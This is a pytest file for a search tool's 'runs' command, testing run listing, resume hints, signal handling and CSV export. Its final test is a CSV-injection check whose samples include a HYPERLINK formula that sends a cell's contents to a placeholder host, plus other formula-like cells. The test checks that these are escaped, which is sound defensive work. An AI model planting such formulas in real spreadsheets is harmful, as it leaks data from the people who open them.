"""``naoviz runs``: a killed search is listed as interrupted, with the id its own start line printed and the
command that resumes it; a run held by a live process is listed as running with that process's PID."""
from __future__ import annotations

import json
import os

import pytest

from naoviz.cli import main
from naoviz.store import RunStore

from _cli_process import kill, start, wait_for_store



def _runs(capsys, *args) -> tuple[int, str, str]:
    code = main(["runs", *args])
    out = capsys.readouterr()
    return code, out.out, out.err


def test_a_killed_search_is_listed_as_interrupted_with_its_resume_command(tmp_path, capsys):
    db = tmp_path / "runs.db"
    proc = start("search", "--space", "nb201-digits", "--algo", "ls", "--queries", "40", "--delay", "0.1",
                 "--store", str(db), "--no-progress", text=True)
    announced = proc.stderr.readline()            # printed before the first evaluation
    store = wait_for_store(proc, db, lambda _, runs: runs and runs[0]["n_evaluations"] >= 5)
    run_id = store.runs()[0]["id"]
    code, out, _ = _runs(capsys, "--store", str(db), "--json")
    assert code == 0 and json.loads(out)["runs"][0]["status"] == "running"     # its writer is alive
    assert json.loads(out)["runs"][0]["writer_pid"] == proc.pid
    kill(proc)
    assert f"run {run_id} in {db}" in announced and f"--resume {run_id}" in announced

    code, out, _ = _runs(capsys, "--store", str(db), "--json")
    listed = json.loads(out)["runs"]
    assert code == 0 and len(listed) == 1
    assert listed[0]["id"] == run_id and listed[0]["status"] == "interrupted" and listed[0]["writer_pid"] is None
    assert listed[0]["budget"] == 40 and 5 <= listed[0]["evaluations"] < 40
    assert listed[0]["what"] == "ls on nb201-digits"
    code, out, _ = _runs(capsys, "--store", str(db))
    assert code == 0 and f"naoviz search --store {db} --resume {run_id}" in out
    assert store.get_run(run_id)["status"] == "running"          # listing changed nothing in the store


def test_a_run_held_in_this_process_shows_this_pid(tmp_path, capsys):
    store = RunStore(tmp_path / "runs.db")
    run_id = store.create_run("search", {"algo": "rs", "budget": 3}, 0)
    with store.hold_run(run_id):
        _, out, _ = _runs(capsys, "--store", str(store.path), "--json")
        assert json.loads(out)["runs"][0]["writer_pid"] == os.getpid()
    _, out, _ = _runs(capsys, "--store", str(store.path), "--json")
    assert json.loads(out)["runs"][0]["status"] == "interrupted"


def test_runs_errors_name_the_store(tmp_path, capsys):
    for value, why in ((tmp_path / "none.db", "does not exist"), (tmp_path, "is a folder")):
        code, _, err = _runs(capsys, "--store", str(value))
        assert code == 2 and err.startswith("naoviz runs: error: --store:") and why in err
    (tmp_path / "text.db").write_text("not sqlite\n")
    code, _, err = _runs(capsys, "--store", str(tmp_path / "text.db"))
    assert code == 2 and "--store" in err and len(err.splitlines()) == 1


def test_csv_export_of_one_run_and_of_all(tmp_path, capsys):
    import csv

    from naoviz.evaluate import TableEvaluator
    from naoviz.search import start_search
    store = RunStore(tmp_path / "runs.db")
    first = start_search("rs", TableEvaluator("nb201-digits"), 7, 0, store=store, progress=False)
    start_search("ls", TableEvaluator("nb201-digits"), 12, 1, store=store, progress=False)
    code, out, _ = _runs(capsys, "--store", str(store.path), "--csv", first.run_id, "--out", str(tmp_path / "one.csv"))
    assert code == 0 and "7 evaluations" in out
    rows = list(csv.DictReader(open(tmp_path / "one.csv")))
    assert [r["arch"] for r in rows] == [r.arch for r in first.history]
    assert [float(r["valid_acc"]) for r in rows] == [r.value for r in first.history]
    code, out, _ = _runs(capsys, "--store", str(store.path), "--csv", "all", "--out", str(tmp_path / "all.csv"))
    assert code == 0 and len(list(csv.DictReader(open(tmp_path / "all.csv")))) == 19
    for argv, option in ((["--csv", "nope", "--out", str(tmp_path / "x.csv")], "--csv"), (["--csv", "all"], "--out"),
                         (["--out", str(tmp_path / "x.csv")], "--csv"), (["--csv", "all", "--out", str(tmp_path)], "--out"),
                         (["--csv", "all", "--out", str(store.path)], "--out"),         # the store itself: not overwritten
                         (["--csv", "all", "--out", f"{store.path}-wal"], "--out")):
        code, _, err = _runs(capsys, "--store", str(store.path), *argv)
        assert code == 2 and err.startswith(f"naoviz runs: error: {option}"), err
    assert not (tmp_path / "x.csv").exists()
    assert len(RunStore(store.path).runs()) == 2                                      # still a store, every run in it


def test_a_search_stopped_by_ctrl_c_says_how_to_resume_and_is_listed_stopped(tmp_path, capsys):
    """SIGINT mid-search: exit status 130, a last line with the resume command, the run "stopped" (not
    "failed") with its evaluations kept, and `naoviz runs` offers the same command."""
    import signal

    from _cli_process import start, wait_for_store
    db = tmp_path / "runs.db"
    proc = start("search", "--space", "nb201-digits", "--algo", "rs", "--queries", "200", "--delay", "0.05",
                 "--store", str(db), "--no-progress")
    store = wait_for_store(proc, db, lambda _, runs: runs and runs[0]["n_evaluations"] >= 5)
    proc.send_signal(signal.SIGINT)
    err = proc.communicate(timeout=60)[1].decode().strip().splitlines()
    (run,) = store.runs()
    resume = f"naoviz search --store {db} --resume {run['id']}"
    assert proc.returncode == 130 and err[-1] == f"naoviz search: interrupted; resume it: {resume}", err
    assert run["status"] == "stopped" and 5 <= run["n_evaluations"] < 200
    code, out, _ = _runs(capsys, "--store", str(db))
    assert code == 0 and "stopped" in out and out.strip().splitlines()[-1] == f"resume one: {resume}"


@pytest.mark.parametrize("signame, status", [("SIGTERM", 143), ("SIGHUP", 129)])
def test_a_search_stopped_by_sigterm_or_sighup_says_how_to_resume_as_ctrl_c_does(tmp_path, capsys, signame, status):
    """`kill PID` (a job scheduler, a service stop) or a closed terminal mid-search: the run is "stopped" with its
    evaluations kept, and the last line gives the resume command (exit status 128 + the signal), as for Ctrl-C;
    before, the process died silently and the run was left "running"."""
    import signal

    from _cli_process import start, wait_for_store
    db = tmp_path / "runs.db"
    proc = start("search", "--space", "nb201-digits", "--algo", "rs", "--queries", "200", "--delay", "0.05",
                 "--store", str(db), "--no-progress")
    store = wait_for_store(proc, db, lambda _, runs: runs and runs[0]["n_evaluations"] >= 5)
    proc.send_signal(getattr(signal, signame))
    err = proc.communicate(timeout=60)[1].decode().strip().splitlines()
    (run,) = store.runs()
    resume = f"naoviz search --store {db} --resume {run['id']}"
    assert proc.returncode == status and err[-1] == f"naoviz search: stopped by {signame}; resume it: {resume}", err
    assert run["status"] == "stopped" and 5 <= run["n_evaluations"] < 200


def test_a_killed_compare_offers_the_compare_command_and_it_finishes_the_comparison(tmp_path, capsys):
    """A search run a killed ``naoviz compare --store`` made is listed with the comparison's own command (which
    continues it and starts the runs not reached), not ``naoviz search --resume`` alone (which would leave the
    comparison unfinished); ``search --resume`` of that run works too and the compare command then reads it back."""
    import shlex
    import subprocess
    import sys

    from _cli_process import env
    db = tmp_path / "cmp.db"
    argv = ["compare", "--space", "nb201-digits", "--algos", "rs,ls", "--queries", "10", "--seeds", "2",
            "--store", str(db), "--no-progress", "--json", "--delay", "0.05"]
    proc = start(*argv)
    store = wait_for_store(proc, db, lambda _, runs: len([r for r in runs if r["kind"] == "search"]) >= 2
                           and runs[-1]["n_evaluations"] >= 3, timeout=120)
    kill(proc)
    (cut,) = [r for r in store.runs() if r["kind"] == "search" and r["status"] == "running"]
    code, out, _ = _runs(capsys, "--store", str(db))
    last = out.strip().splitlines()[-1]
    assert code == 0 and f"--resume {cut['id']} continues that run alone" in last, out
    assert last.startswith(f"resume one: {shlex.join(['naoviz', *argv])} (the command of comparison "), last
    assert "1/4 runs" in out and "interrupted" in out
    listed = json.loads(_runs(capsys, "--store", str(db), "--json")[1])["runs"]
    (record,) = [r for r in listed if r["kind"] == "compare"]
    assert (record["status"], record["runs_finished"], record["runs_planned"]) == ("interrupted", 1, 4)
    assert record["what"] == "rs,ls on nb201-digits, seeds 0-1"

    assert main(["search", "--store", str(db), "--resume", cut["id"], "--no-progress"]) == 0   # that run alone
    assert store.get_run(cut["id"])["status"] == "finished"
    code, out, _ = _runs(capsys, "--store", str(db))
    assert "resume one: naoviz compare" in out.strip().splitlines()[-1]     # the comparison is not done
    done = subprocess.run([sys.executable, "-m", "naoviz.cli", *shlex.split(last.split(": ", 1)[1])[1:len(argv) + 1]],
                          env=env(), capture_output=True, text=True, timeout=300)
    assert done.returncode == 0, done.stderr
    runs = [r for r in store.runs() if r["kind"] == "search"]
    assert len(runs) == 4 and all(r["status"] == "finished" and r["n_evaluations"] == 10 for r in runs)
    code, out, _ = _runs(capsys, "--store", str(db))
    assert "resume one" not in out and "4/4 runs" in out


def test_a_compare_run_from_python_is_offered_a_rerun_and_a_plain_search_its_resume(tmp_path, capsys):
    """A comparison run from Python stores no command: its stopped run is offered "rerun the same naoviz
    compare with --store"; a search of the same searcher on another budget is not the comparison's."""
    from naoviz.evaluate import TableEvaluator
    from naoviz.experiments.search import compare
    from naoviz.search import start_search
    store = RunStore(tmp_path / "runs.db")
    summary = compare(TableEvaluator("nb201-digits"), [("rs", None)], 5, [0, 1], store=store)
    made = summary["algos"]["rs"]["runs"][0]["run_id"]
    store.set_status(made, "stopped")
    _, out, _ = _runs(capsys, "--store", str(store.path))
    assert out.strip().splitlines()[-1] == (f"resume one: rerun the same naoviz compare with --store {store.path} "
                                            f"(comparison {store.runs()[0]['id']}, which made run {made}; naoviz "
                                            f"search --store {store.path} --resume {made} continues that run alone)")
    alone = start_search("rs", TableEvaluator("nb201-digits"), 6, 0, store=store, progress=False).run_id
    store.set_status(alone, "failed")
    _, out, _ = _runs(capsys, "--store", str(store.path))
    assert out.strip().splitlines()[-1] == f"resume one: naoviz search --store {store.path} --resume {alone}"


def test_an_interrupted_build_shows_its_progress_of_every_class_and_how_to_resume(tmp_path, capsys):
    """A killed ``build-table --archs all`` is listed with done/6466 (not a bare count) and a line saying
    that the same command resumes it (a build stores no command line to print)."""
    store = RunStore(tmp_path / "build.db")
    run_id = store.create_run("build-table", {"space": "nb201", "data": "digits", "archs": "all", "epochs": 4}, 0)
    store.add_evaluation(run_id, space="nb201", arch="a", canonical="c", metrics={"valid_acc": 1.0},
                         evaluator="child-trainer", cost_s=1.0)
    code, out, _ = _runs(capsys, "--store", str(store.path))
    row = next(line for line in out.splitlines() if line.startswith(run_id))
    assert code == 0 and "interrupted" in row and " 1/6466 " in row
    assert f"resume a build: run the same naoviz build-table command (same settings, --store {store.path})" in out
    _, out, _ = _runs(capsys, "--store", str(store.path), "--json")
    assert json.loads(out)["runs"][0]["budget"] == 6466


def test_search_resume_of_a_build_or_compare_run_names_the_option(tmp_path, capsys):
    """``naoviz search --resume ID`` with the id of a build-table or compare run: one line naming --resume
    and where the way to resume it is listed (it said 'resume: ...', no option, no way on)."""
    store = RunStore(tmp_path / "runs.db")
    for kind in ("build-table", "compare"):
        run_id = store.create_run(kind, {"space": "nb201"}, 0)
        assert main(["search", "--store", str(store.path), "--resume", run_id, "--no-progress"]) == 2
        err = capsys.readouterr().err
        assert err.count("\n") == 1 and f"--resume: run {run_id} is a {kind} run, not a search" in err
        assert f"naoviz runs --store {store.path}" in err


def test_csv_to_standard_output_with_a_dash(tmp_path, capsys, monkeypatch):
    """``--out -`` writes the CSV to stdout (for a pipe) and the count to stderr; it wrote a file named '-'."""
    monkeypatch.chdir(tmp_path)
    store = RunStore(tmp_path / "runs.db")
    run_id = store.create_run("search", {"algo": "rs", "budget": 3}, 0)
    store.add_evaluation(run_id, space="nb201", arch="a", canonical="c", metrics={"valid_acc": 90.5},
                         evaluator="table", cost_s=1.0)
    code, out, err = _runs(capsys, "--store", str(store.path), "--csv", run_id, "--out", "-")
    assert code == 0 and not (tmp_path / "-").exists()
    lines = out.splitlines()
    assert lines[0].startswith("id,run_id,") and "valid_acc" in lines[0] and len(lines) == 2 and ",90.5" in lines[1]
    assert err.strip() == f"standard output: 1 evaluations of run {run_id}"


def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_written_as_text(tmp_path, capsys):
    """CSV injection: a table's column named ``=HYPERLINK(...)`` or a text value starting with = + - @ (tab,
    CR) is a formula to the spreadsheet that opens the CSV. Such names and text cells get a leading ``'``;
    numbers, a negative one too, stay numbers; the file and ``--out -`` write the same."""
    import csv
    import io
    store = RunStore(tmp_path / "runs.db")
    run_id = store.create_run("search", {"algo": "rs", "budget": 3}, 0)
    formula = '=HYPERLINK("http://x.example/?"&A1,"ok")'
    store.add_evaluation(run_id, space="nb201", arch="|nor_conv_3x3~0|", canonical="c", evaluator="@SUM(1)",
                         metrics={formula: -0.5, "note": "+1+1", "tab": "\t=1", "cr": "\r=1", "minus": "-cmd",
                                  "fine": "a=b", "neg": -3.25}, cost_s=1.0)
    out_file = tmp_path / "evals.csv"
    assert _runs(capsys, "--store", str(store.path), "--csv", run_id, "--out", str(out_file))[0] == 0
    code, printed, _ = _runs(capsys, "--store", str(store.path), "--csv", run_id, "--out", "-")
    assert code == 0 and printed == open(out_file, newline="").read()
    (row,) = list(csv.DictReader(io.StringIO(printed)))
    assert "'" + formula in row and formula not in row
    assert row["'" + formula] == "-0.5" and row["neg"] == "-3.25"                     # numbers stay numbers
    assert (row["note"], row["tab"], row["cr"], row["minus"]) == ("'+1+1", "'\t=1", "'\r=1", "'-cmd")
    assert row["evaluator"] == "'@SUM(1)" and row["fine"] == "a=b" and row["arch"] == "|nor_conv_3x3~0|"
    assert not any(v.startswith(("=", "+", "@", "\t", "\r")) or v.startswith("-") and not _number(v)
                   for v in [*row, *row.values()] if v)


def _number(text: str) -> bool:
    try:
        float(text)
        return True
    except ValueError:
        return False
